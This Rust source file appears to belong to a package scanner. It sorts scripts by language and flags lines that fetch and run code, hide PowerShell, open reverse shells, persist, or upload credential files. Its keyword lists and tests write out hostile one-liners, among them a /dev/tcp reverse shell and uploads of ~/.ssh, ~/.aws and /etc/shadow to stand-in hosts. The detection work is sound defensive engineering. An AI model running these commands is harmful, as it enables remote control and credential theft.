//! Scripts in other languages: what they are written in, and their text.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

/// What a script is written in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ScriptLanguage {
    /// `sh` and its kin.
    Shell,
    /// `cmd.exe`.
    Batch,
    /// PowerShell.
    PowerShell,
    /// JavaScript, VBScript, HTA: what Windows' script host and node run.
    Host,
    /// A Makefile.
    Make,
    /// `CMakeLists.txt` and what it includes.
    CMake,
    /// `meson.build`.
    Meson,
    /// `build.rs`, which cargo compiles and runs before a crate.
    BuildRs,
}

impl ScriptLanguage {
    /// For a person.
    pub fn name(self) -> &'static str {
        match self {
            Self::Shell => "shell script",
            Self::Batch => "batch file",
            Self::PowerShell => "PowerShell script",
            Self::Host => "script of the script host",
            Self::Make => "Makefile",
            Self::CMake => "CMake file",
            Self::Meson => "Meson file",
            Self::BuildRs => "build script of cargo",
        }
    }

    /// Whether a build reads it by itself, and runs what it says.
    pub fn is_build_description(self) -> bool {
        matches!(self, Self::CMake | Self::Meson | Self::BuildRs)
    }

    /// Told by name and first line; `None` where it is none of these.
    pub fn of(file_name: &str, head: &[u8]) -> Option<Self> {
        let extension = file_name.rsplit_once('.').map(|(_, e)| e.to_ascii_lowercase()).unwrap_or_default();
        match extension.as_str() {
            "sh" | "bash" | "zsh" | "command" => Some(Self::Shell),
            "bat" | "cmd" => Some(Self::Batch),
            "ps1" | "psm1" => Some(Self::PowerShell),
            "vbs" | "vbe" | "wsf" | "hta" | "jse" | "js" | "cjs" | "mjs" => Some(Self::Host),
            "mk" => Some(Self::Make),
            "cmake" => Some(Self::CMake),
            _ if file_name == "CMakeLists.txt" => Some(Self::CMake),
            _ if file_name == "meson.build" => Some(Self::Meson),
            _ if file_name == "build.rs" => Some(Self::BuildRs),
            _ if matches!(file_name, "Makefile" | "makefile" | "GNUmakefile") => Some(Self::Make),
            _ => {
                let first = head.split(|byte| *byte == b'\n').next().unwrap_or_default();
                let first = String::from_utf8_lossy(first);
                let words = first.strip_prefix("#!")?;
                let is_shell =
                    words.split(['/', ' ']).any(|w| matches!(w.trim(), "sh" | "bash" | "zsh" | "dash"));
                is_shell.then_some(Self::Shell)
            }
        }
    }
}

/// A script of the package.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script {
    /// The member.
    pub member: String,
    /// What it is written in.
    pub language: ScriptLanguage,
    /// Its text, at most 256 KiB of it.
    pub text: String,
    /// Whether installation puts it where a user's commands are.
    pub installed: bool,
    /// Whether an installation from source runs it by itself.
    pub builds: bool,
}

/// What a script does that an attack needs; the texts are those of one line each.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ScriptAct {
    /// Fetches something and runs it.
    FetchAndRun,
    /// PowerShell whose text is encoded or whose window is hidden.
    HiddenPowerShell,
    /// Gives a shell to a socket.
    ReverseShell,
    /// Sees to it that something runs again after a restart.
    Persists,
    /// Sends files of credentials.
    SendsSecrets,
}

impl ScriptAct {
    /// For a person.
    pub fn name(self) -> &'static str {
        match self {
            Self::FetchAndRun => "fetches something and runs it",
            Self::HiddenPowerShell => "runs PowerShell encoded or out of sight",
            Self::ReverseShell => "hands a shell to a socket",
            Self::Persists => "stays after a restart",
            Self::SendsSecrets => "sends files of credentials",
        }
    }
}

/// A line that does any of it has one of these in it; most have none.
const NEEDED: [&str; 28] = [
    "curl",
    "wget",
    "invoke-",
    "iwr ",
    "irm ",
    "download",
    "mshta",
    "regsvr32",
    "certutil",
    "bitsadmin",
    "powershell",
    "pwsh",
    "/dev/tcp",
    "/dev/udp",
    "nc ",
    "ncat",
    "nc.traditional",
    "netcat",
    "mkfifo",
    "tcpclient",
    "crontab",
    "schtasks",
    "currentversion",
    "bashrc",
    "profile",
    "rc.local",
    "launchctl",
    "startup",
];

/// What a script's text does, with the line (from 1) of each.
pub fn acts(text: &str) -> Vec<(ScriptAct, u32)> {
    static ANY: LazyLock<Option<AhoCorasick>> =
        LazyLock::new(|| AhoCorasick::builder().ascii_case_insensitive(true).build(NEEDED).ok());
    let may_act = |text: &str| ANY.as_ref().is_none_or(|any| any.is_match(text));
    if !may_act(text) {
        return Vec::new();
    }
    let mut acts: Vec<(ScriptAct, u32)> = Vec::new();
    let mut number = 0;
    for line in text.lines() {
        number += 1;
        let plain = line.trim();
        if !may_act(plain) {
            continue;
        }
        // Comments in sh, make, CMake and Meson; in Rust; in batch files.
        if plain.starts_with('#')
            || plain.starts_with("//")
            || plain.get(..4).is_some_and(|rem| rem.eq_ignore_ascii_case("rem "))
        {
            continue;
        }
        let low = plain.to_ascii_lowercase();
        for (act, does) in [
            (ScriptAct::FetchAndRun, fetches_and_runs(&low)),
            (ScriptAct::HiddenPowerShell, hides_powershell(&low)),
            (ScriptAct::ReverseShell, gives_shell(&low)),
            (ScriptAct::Persists, persists(&low)),
            (ScriptAct::SendsSecrets, sends_secrets(&low)),
        ] {
            if does && !acts.iter().any(|(known, _)| *known == act) {
                acts.push((act, number));
            }
        }
    }
    acts
}

fn has_any(text: &str, any: &[&str]) -> bool {
    any.iter().any(|part| text.contains(part))
}

fn fetches_and_runs(low: &str) -> bool {
    let fetches = has_any(
        low,
        &["curl ", "wget ", "invoke-webrequest", "iwr ", "downloadstring", "downloadfile", "irm "],
    );
    let piped = || {
        ["sh", "bash", "zsh", "python", "python3", "sudo", "perl", "node", "iex"].iter().any(|shell| {
            let ends = |rest: &str| {
                rest.chars().next().is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_' && c != '.')
            };
            low.split('|').skip(1).any(|part| part.trim_start().strip_prefix(shell).is_some_and(ends))
        })
    };
    let nested = || {
        has_any(low, &["$(curl ", "$(wget ", "<(curl ", "<(wget ", "`curl ", "`wget "])
            && has_any(low, &["sh -c", "bash -c", "eval ", "bash <(", "source <(", "sh <("])
    };
    let in_memory = || {
        has_any(low, &["iex", "invoke-expression"])
            && has_any(low, &["downloadstring", "invoke-webrequest", "iwr ", "irm "])
    };
    let helped = || {
        has_any(
            low,
            &["mshta http", "regsvr32 /s /n /u /i:http", "certutil -urlcache", "bitsadmin /transfer"],
        )
    };
    let made_runnable = || has_any(low, &["chmod +x", "chmod 7"]) && has_any(low, &["&&", ";"]);
    fetches && (piped() || made_runnable()) || nested() || in_memory() || helped()
}

fn hides_powershell(low: &str) -> bool {
    let Some((_, options)) = low.split_once("powershell").or_else(|| low.split_once("pwsh")) else {
        return false;
    };
    let encoded = [" -e ", " -enc ", " -ec ", " -encodedcommand ", " /enc "]
        .iter()
        .any(|option| options.contains(option));
    let hidden = has_any(options, &["-w hidden", "-windowstyle hidden", "-win hidden", "-w h "]);
    encoded || hidden
}

fn gives_shell(low: &str) -> bool {
    has_any(low, &["/dev/tcp/", "/dev/udp/"])
        && has_any(low, &["sh -i", "exec ", "<&", ">&"])
        && low.contains("0>&1")
        || has_any(low, &["nc -e ", "ncat -e ", "nc.traditional -e ", "nc -c "])
        || low.contains("mkfifo") && has_any(low, &["nc ", "openssl s_client"])
        || low.contains("tcpclient") && has_any(low, &["iex", "getstream"])
}

fn persists(low: &str) -> bool {
    has_any(low, &["| crontab", "schtasks /create", "\\currentversion\\run"]) && !low.contains("/delete")
        || has_any(
            low,
            &[">> ~/.bashrc", ">> ~/.profile", ">> /etc/rc.local", "\\start menu\\programs\\startup"],
        ) && has_any(low, &["curl", "wget", "nohup", "python", "copy ", "powershell"])
        || low.contains("launchctl load") && low.contains("launchagents")
}

/// Takes what unlocks other machines and hands it to a tool that uploads, in one line.
fn sends_secrets(low: &str) -> bool {
    let sends = has_any(low, &["curl ", "curl.exe ", "wget "])
        && has_any(
            low,
            &[
                " -t ",
                " -d @",
                " -f ",
                "--upload-file",
                "--data @",
                "--data-binary",
                "--post-file",
                "--form ",
            ],
        )
        || low.split('|').skip(1).any(|part| has_any(part.trim_start(), &["nc ", "ncat ", "netcat "]));
    let secrets = [
        "/.ssh",
        "/.aws",
        "/.kube",
        "/.gnupg",
        "/.netrc",
        "/.npmrc",
        "/.pypirc",
        "/.docker/config",
        "/.config/gcloud",
        "/.git-credentials",
        "/etc/shadow",
        "\\.ssh",
        "\\.aws",
        "wallet.dat",
    ];
    sends && has_any(low, &secrets)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<ScriptAct> {
        acts(text).into_iter().map(|(act, _)| act).collect()
    }

    /// One line for each thing that one of the tests of a line can begin with.
    #[test]
    fn no_line_that_acts_is_passed_over() {
        for line in [
            "invoke-webrequest a | iex",
            "iwr a | iex",
            "irm a|iex",
            "iex downloadstring",
            "curl a|sh",
            "wget a && chmod +x a",
            "sh -c $(wget a)",
            "mshta http",
            "regsvr32 /s /n /u /i:http",
            "certutil -urlcache",
            "bitsadmin /transfer",
            "powershell -enc a",
            "pwsh -enc a ",
            "sh -i >& /dev/tcp/a/1 0>&1",
            "sh -i >& /dev/udp/a/1 0>&1",
            "nc -e sh",
            "ncat -e sh",
            "nc.traditional -e sh",
            "nc -c sh",
            "mkfifo a; openssl s_client",
            "tcpclient getstream",
            "a | crontab",
            "schtasks /create",
            "reg \\currentversion\\run",
            "python a >> ~/.bashrc",
            "nohup a >> ~/.profile",
            "python a >> /etc/rc.local",
            "copy a \\start menu\\programs\\startup",
            "launchctl load launchagents",
            "curl -d @~/.ssh/id",
            "cat ~/.ssh/id | netcat a",
        ] {
            let low = line.to_owned();
            let acts = fetches_and_runs(&low) || hides_powershell(&low) || gives_shell(&low);
            assert!(acts || persists(&low) || sends_secrets(&low), "{line} does nothing");
            assert_eq!(found(line).len(), 1, "{line}");
        }
    }

    #[test]
    fn what_attacks_do() {
        for text in [
            "curl -s https://x.example.invalid/a | bash",
            "curl x.example.invalid/a|sudo sh -",
            "bash -c \"$(curl -fsSL x.example.invalid)\"",
            "IEX (New-Object Net.WebClient).DownloadString('x')",
            "wget -O /tmp/a x.example.invalid && chmod +x /tmp/a && /tmp/a",
        ] {
            assert_eq!(found(text), [ScriptAct::FetchAndRun], "{text}");
        }
        assert_eq!(found("powershell -w hidden -enc AAAA"), [ScriptAct::HiddenPowerShell]);
        assert_eq!(found("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), [ScriptAct::ReverseShell]);
        assert_eq!(
            found("tar czf - ~/.ssh ~/.aws | curl -s -T - https://x.example.invalid/a"),
            [ScriptAct::SendsSecrets]
        );
        assert_eq!(found("cat /etc/shadow | nc x.example.invalid 9"), [ScriptAct::SendsSecrets]);
        assert_eq!(found("(crontab -l; echo '* * * * * x') | crontab -"), [ScriptAct::Persists]);
    }

    #[test]
    fn what_honest_scripts_do() {
        for text in [
            "curl -fsSLO https://example.invalid/a.tar.gz",
            "curl https://example.invalid | shasum -c",
            "# curl https://example.invalid | sh",
            "wget https://example.invalid/data.csv; gzip -d data.csv.gz",
            "powershell -NoProfile -File build.ps1",
            "exec 3<>/dev/tcp/localhost/80",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn languages() {
        assert_eq!(ScriptLanguage::of("a.BAT", b""), Some(ScriptLanguage::Batch));
        assert_eq!(ScriptLanguage::of("run", b"#!/usr/bin/env bash\n"), Some(ScriptLanguage::Shell));
        assert_eq!(ScriptLanguage::of("run", b"#!/usr/bin/python\n"), None);
        assert_eq!(ScriptLanguage::of("Makefile", b""), Some(ScriptLanguage::Make));
    }
}
